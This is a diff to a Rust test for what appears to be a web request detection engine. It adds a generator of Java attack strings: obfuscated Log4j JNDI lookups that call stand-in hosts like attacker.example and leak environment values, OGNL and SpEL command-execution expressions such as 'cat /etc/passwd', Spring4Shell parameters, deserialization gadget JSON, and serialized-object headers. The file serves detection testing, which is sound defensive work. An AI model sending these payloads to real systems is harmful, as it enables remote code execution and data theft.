@@ -404,6 +404,103 @@ fn cmdi(r: &mut Rng) -> String {
     }
 }
 
+/// One letter of a Log4j lookup spelled the ways scanners spell it.
+fn log4j_letter(r: &mut Rng, c: char) -> String {
+    match r.below(6) {
+        0 => format!("${{lower:{c}}}"),
+        1 => format!("${{upper:{}}}", c.to_ascii_uppercase()),
+        2 => format!("${{::-{c}}}"),
+        3 => format!("${{env:{}:-{c}}}", r.pick(&["NaN", "BARFOO", "X1"])),
+        4 => format!("${{date:'{c}'}}"),
+        _ => c.to_string(),
+    }
+}
+
+fn java(r: &mut Rng) -> String {
+    let host = format!(
+        "{}{}.{}",
+        r.pick(&["x", "cb", "a1", "log", "oast"]),
+        r.below(1000),
+        r.pick(&[
+            "example",
+            "example.net",
+            "attacker.example",
+            "interact.example"
+        ])
+    );
+    match r.below(5) {
+        0 | 1 => {
+            let word: String = if r.below(3) == 0 {
+                "jndi".to_string()
+            } else {
+                "jndi".chars().map(|c| log4j_letter(r, c)).collect()
+            };
+            let proto = r.pick(&[
+                "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http",
+            ]);
+            let proto: String = if r.below(3) == 0 {
+                proto.chars().map(|c| log4j_letter(r, c)).collect()
+            } else {
+                proto.to_string()
+            };
+            let exfil = r.pick(&[
+                "",
+                "${env:USER}.",
+                "${sys:java.version}.",
+                "${hostName}.",
+                "${ctx:loginId}.",
+            ]);
+            let lookup = format!("${{{word}:{proto}://{exfil}{host}/{}}}", r.below(100_000));
+            let lead = r.pick(&["", "Mozilla/5.0 ", "x", "user ", "{\"a\":\""]);
+            format!("{lead}{lookup}")
+        }
+        2 => {
+            let cmd = r.pick(&["id", "whoami", "calc", "touch /tmp/x", "cat /etc/passwd"]);
+            match r.below(6) {
+                0 => format!("%{{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('{cmd}'))}}"),
+                1 => format!("${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}"),
+                2 => format!("#{{new java.lang.ProcessBuilder({{'{cmd}'}}).start()}}"),
+                3 => format!("(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#cmd='{cmd}')"),
+                4 => format!("''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('{cmd}')"),
+                _ => format!("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.{}", r.pick(&["jsp", "txt", "log"])),
+            }
+        }
+        3 => {
+            let class = r.pick(&[
+                "org.apache.commons.collections.functors.InvokerTransformer",
+                "org.apache.commons.collections4.functors.InstantiateTransformer",
+                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+                "com.sun.rowset.JdbcRowSetImpl",
+                "org.springframework.context.support.ClassPathXmlApplicationContext",
+            ]);
+            match r.below(3) {
+                0 => format!("{{\"@type\":\"{class}\",\"dataSourceName\":\"ldap://{host}/a\"}}"),
+                1 => format!("[\"{class}\",{{\"uri\":\"http://{host}/b.xml\"}}]"),
+                _ => class.to_string(),
+            }
+        }
+        _ => {
+            // A stream header, a class descriptor and random field bytes.
+            let class = r.pick(&[
+                "java.util.HashMap",
+                "java.util.PriorityQueue",
+                "javax.management.BadAttributeValueExpException",
+                "ysoserial.Pwner",
+            ]);
+            let mut raw = vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, class.len() as u8];
+            raw.extend_from_slice(class.as_bytes());
+            for _ in 0..8 + r.below(40) {
+                raw.push(r.below(256) as u8);
+            }
+            if r.below(4) == 0 {
+                raw.iter().map(|b| format!("{b:02x}")).collect()
+            } else {
+                base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &raw)
+            }
+        }
+    }
+}
+
 /// Benign values of the kinds that sit closest to the traversal and command
 /// injection rules: file names and paths (relative, home, Windows, one level
 /// up), URLs with paths, shell and git commands quoted in support text, search
@@ -868,11 +965,12 @@ fn distinct(n: usize, r: &mut Rng, mut make: impl FnMut(&mut Rng) -> String) -> 
 #[test]
 fn generated_attacks_per_family() {
     let engine = Engine::new(Config::default()).unwrap();
-    let families: [(&str, Generator); 4] = [
+    let families: [(&str, Generator); 5] = [
         ("sqli", sqli),
         ("xss", xss),
         ("traversal", traversal),
         ("cmdi", cmdi),
+        ("java", java),
     ];
     let n = count();
     println!("generated attacks, {n} distinct per family, each sent in one of five places (json, query, form, cookie, header), a quarter URL-encoded once more; blocked = score >= 5, detected = score >= 3");
